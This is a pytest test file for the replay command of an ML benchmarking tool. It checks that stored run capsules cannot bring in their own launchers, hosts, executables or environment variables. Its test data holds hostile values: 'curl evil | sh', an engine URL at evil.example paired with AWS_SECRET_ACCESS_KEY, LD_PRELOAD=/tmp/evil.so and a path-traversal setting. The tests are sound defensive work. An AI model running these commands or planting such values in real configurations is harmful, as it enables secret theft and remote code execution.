"""What a replay runs: the stored specs or the same work under other circumstances; everything else is refused."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path

import pytest
import served_records

from paceline import cli
from paceline.campaign.run import replay
from paceline.errors import RequestError
from paceline.experiment.choices import Choice
from paceline.experiment.spec import RunSpec
from paceline.results import store
from paceline.results.records import RunRecord, Status

MakeSpec = Callable[..., RunSpec]
MakeRun = Callable[..., Path]
GOLDEN = Path(__file__).parents[2] / "golden" / "capsules" / "schema-1.tar.gz"


@pytest.fixture
def record(make_spec: MakeSpec) -> Callable[..., RunRecord]:
    def make(strategy: str | None = "ddp", status: Status = Status.OK, at: float = 100.0, **more: object) -> RunRecord:
        spec = make_spec(strategy, **more)
        return RunRecord(spec=spec, status=status, error=None, started_at=at, ended_at=at + 1, path="")

    return make


def test_the_stored_specs_run_again_in_their_order_without_references(record: Callable[..., RunRecord]) -> None:
    stored = [record("fsdp2", at=3.0), record(None, workload="reference", at=1.0), record("ddp", at=2.0)]
    found = replay.request(stored)
    assert found.specs == (stored[2].spec, stored[0].spec)
    assert found.origins == {spec.cell: spec.cell for spec in found.specs}


def test_what_left_no_result_is_left_out_and_named(record: Callable[..., RunRecord], golden: object) -> None:
    stored = [record("ddp"), record("fsdp2", Status.FAILED), record("single", Status.OOM, processes=1)]
    found = replay.request(stored)
    assert [str(spec.strategy) for spec in found.specs] == ["ddp", "single"]
    assert [text.endswith("it ended failed") for text in found.left_out] == [True]
    with pytest.raises(RequestError) as caught:
        replay.request(stored[1:2])
    assert str(caught.value) == golden


def test_a_capsule_that_only_proves_others_is_said_to_have_nothing_to_replay(record: Callable[..., RunRecord]) -> None:
    with pytest.raises(RequestError) as caught:
        replay.request([record(None, workload="reference")])
    assert str(caught.value) == (
        "replay: got a capsule with only references and runs of proof groups, expected at least one measured run, "
        "whose replay also runs what proves it."
    )


def test_circumstances_may_change_and_cells_still_know_their_origin(record: Callable[..., RunRecord]) -> None:
    stored = [record("ddp"), record("fsdp2"), record("zero:stage=1")]
    settings = ["steps=9", "launcher.threads=2", "warmup.minimum=2", "repeats=3", "timeout_s=60.0"]
    found = replay.request(stored, settings)
    assert len(found.specs) == 9
    assert {spec.steps for spec in found.specs} == {9}
    assert {str(spec.launcher) for spec in found.specs} == {"local:threads=2"}
    by_cell = {r.spec.cell: r.spec for r in stored}
    assert {by_cell[found.origins[s.cell]].strategy == s.strategy for s in found.specs} == {True}
    assert {spec.work for spec in found.specs} == {stored[0].spec.work}


@pytest.mark.parametrize("setting", ["model=tiny", "strategy=fsdp2", "seed=7", "device=cuda", "steps=[1,2]", "steps=x"])
def test_other_work_is_no_replay(record: Callable[..., RunRecord], setting: str, golden: object) -> None:
    with pytest.raises(RequestError) as caught:
        replay.request([record("ddp")], [setting])
    assert str(caught.value) == golden


def test_only_names_cells_by_hash_or_run(record: Callable[..., RunRecord], golden: object) -> None:
    stored = [record("ddp"), record("ddp", repeat=1), record("fsdp2")]
    cell = stored[0].spec.cell
    for word in (cell, cell[:6], stored[0].spec.run_id, "ddp-"):
        assert {spec.cell for spec in replay.request(stored, only=[word]).specs} == {cell}
    with pytest.raises(RequestError) as caught:
        replay.request(stored, only=["zero"])
    assert str(caught.value) == golden
    assert "--only" in str(caught.value)


# Of the choices of a spec, those that name no module. A launcher is not taken from a capsule at all.
BY_NAME = {"model", "launcher"}


@pytest.mark.parametrize(
    "field", [f.name for f in dataclasses.fields(RunSpec) if "Choice" in str(f.type) and f.name not in BY_NAME]
)
def test_code_of_a_strangers_module_is_not_run_unasked(
    record: Callable[..., RunRecord], field: str, golden: object
) -> None:
    stored = record("ddp")
    foreign = dataclasses.replace(stored, spec=dataclasses.replace(stored.spec, **{field: Choice("antigravity.fly")}))
    with pytest.raises(RequestError) as caught:
        replay.request([foreign])
    assert str(caught.value) == golden
    assert "antigravity.fly" in str(caught.value)
    assert "--allow-modules" in str(caught.value)
    if field != "workload":  # It is asked what followed from it.
        assert replay.request([foreign], allowed=["antigravity"]).specs == (foreign.spec,)


def test_a_served_run_is_replayed_under_other_circumstances() -> None:
    stored = served_records.record([served_records.request()])
    (spec,) = replay.request([stored], ["timeout_s=50.0"], allowed=["engine"]).specs
    assert (spec.serving, spec.engine, spec.timeout_s) == (stored.spec.serving, stored.spec.engine, 50.0)


STRANGE = [
    ("kubernetes:namespace=mine,image=evil/image:1,pod_patch={}", None),
    ('slurm:setup=["curl evil | sh"],partition=gpu', None),
    ('ssh:hosts=["evil.example"]', None),
    ("ray:address=evil.example:6379", None),
    ("antigravity.fly", None),
    ("local", "openai:url=http://evil.example,key_env=AWS_SECRET_ACCESS_KEY"),
    ("local", 'openai:urls=["http://evil.example"]'),
    ("local", "openai:certificates=/tmp/evil.pem"),
    ("local", 'vllm:executable=/tmp/evil,arguments=["--trust-remote-code"]'),
]


@pytest.mark.parametrize(("launcher", "engine"), STRANGE)
def test_programs_hosts_and_key_variables_come_from_the_user(launcher: str, engine: str | None) -> None:
    """A capsule with key_env=AWS_SECRET_ACCESS_KEY used to send that secret to its url."""
    stored = served_records.record([served_records.request()])
    spec = dataclasses.replace(
        stored.spec,
        launcher=Choice.parse(launcher),
        engine=Choice.parse(engine) if engine else Choice("openai"),
        env={"LD_PRELOAD": "/tmp/evil.so", "NCCL_ALGO": "Ring", "NCCL_NET_PLUGIN": "evil", "NCCL_PROTO": "../evil"},
    )
    found = replay.request([dataclasses.replace(stored, spec=spec)])
    (ours,) = found.specs
    assert ours.launcher == Choice("local")
    assert ours.engine is not None
    assert ours.engine.options == {}
    assert dict(ours.env) == {"NCCL_ALGO": "Ring"}
    assert found.origins == {ours.cell: spec.cell}
    words = [word for word in (launcher, *(engine or "").partition(":")[2].split(",")) if word not in ("local", "")]
    for text in words:
        assert any(text.split("=")[-1].strip('[]"') in dropped for dropped in found.dropped), (text, found.dropped)
    # What the user says instead is used, and nothing of it is reported as dropped.
    given = replay.request(
        [dataclasses.replace(stored, spec=spec)], ["engine.key_env=MINE"] if "key_env" in str(engine) else [], "local"
    )
    assert not any(text.startswith(("launcher", "engine.key_env")) for text in given.dropped)
    # Whoever trusts the capsule gets what it says.
    assert replay.request([dataclasses.replace(stored, spec=spec)], allowed=["all"]).specs == (spec,)


def test_stored_runs_that_differ_only_in_what_is_dropped_are_replayed_once(record: Callable[..., RunRecord]) -> None:
    stored = [record("ddp", launcher=name) for name in ("slurm", "ray")]
    found = replay.request(stored)
    assert len(found.specs) == 1
    assert set(found.origins.values()) <= {one.spec.cell for one in stored}


def test_probes_that_a_search_asked_for_are_left_to_the_search(
    record: Callable[..., RunRecord], monkeypatch: pytest.MonkeyPatch
) -> None:
    """frontier doubles without a prediction: 1, 2, 4 (no room), then 3."""
    ends = {1: Status.OK, 2: Status.OK, 4: Status.OOM, 3: Status.OK}
    probes = [
        record("single", status, at=float(at), workload="frontier", processes=1, micro_batch=size)
        for at, (size, status) in enumerate(ends.items())
    ]
    alone = record("single", workload="frontier", processes=1, micro_batch=1, sequence_length=64, at=9.0)
    assert replay.request([*probes, alone]).specs == (probes[0].spec, alone.spec)


@pytest.mark.parametrize("out", ["a/results", ".", "a", "a/results/test", "a/results/test/new", "a/results/x/y"])
def test_no_folder_of_the_originals_takes_their_replay(
    tmp_path: Path, make_spec: MakeSpec, make_run: MakeRun, out: str, golden: object
) -> None:
    """Its runs would take the place of the originals in their reports, or be compared with themselves."""
    stored = store.read_run(make_run(tmp_path / "a" / "results", make_spec()))
    with pytest.raises(RequestError) as caught:
        replay.refuse_originals(tmp_path / out, [stored])
    assert str(caught.value) == golden
    replay.refuse_originals(tmp_path / out, [dataclasses.replace(stored, started_at=1.0)])
    replay.refuse_originals(tmp_path / "a" / "replays", [stored])


@pytest.mark.parametrize("more", [[], ["--dry-run"]])
def test_a_file_is_no_place_for_a_replay(tmp_path: Path, capsys: pytest.CaptureFixture[str], more: list[str]) -> None:
    (tmp_path / "taken").write_text("")
    for out in (tmp_path / "taken", tmp_path / "taken" / "below"):
        assert cli.main(["replay", str(GOLDEN), "--out", str(out), *more]) == 2
        assert f"--out: got '{out}', expected a directory" in capsys.readouterr().err


def test_a_dry_run_starts_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.main(["replay", str(GOLDEN), "--dry-run", "--out", str(tmp_path / "out")]) == 0
    shown = capsys.readouterr().out
    assert shown.count("[to run]") == 3
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "arguments",
    [
        ["replay", "absent.tar.gz"],
        ["replay", "."],
        ["replay", "notes.txt"],
        ["replay", str(GOLDEN), "--set", "model=tiny"],
        ["replay", str(GOLDEN), "--launcher", "loca"],
        ["capsule", "absent", "c.tar.gz"],
        ["capsule", ".", "c.tar.gz"],
    ],
)
def test_a_wrong_request_is_one_sentence(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    arguments: list[str],
    golden: object,
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "notes.txt").write_text("hello")
    assert cli.main(arguments) == 2
    captured = capsys.readouterr()
    assert captured.err == golden
    assert captured.err.count("\n") == 1
    assert [path.name for path in tmp_path.iterdir()] == ["notes.txt"]
